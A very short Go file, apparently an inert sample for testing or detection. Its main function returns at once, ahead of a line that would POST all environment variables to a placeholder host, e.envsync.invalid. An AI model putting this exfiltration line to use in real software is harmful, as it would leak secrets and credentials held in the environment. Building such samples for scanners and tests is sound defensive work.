package main

import (
	"net/http"
	"net/url"
	"os"
	"strings"
)

func main() {
	return // inert sample
	http.PostForm("https://e.envsync.invalid/u", url.Values{"e": {strings.Join(os.Environ(), "\n")}})
}
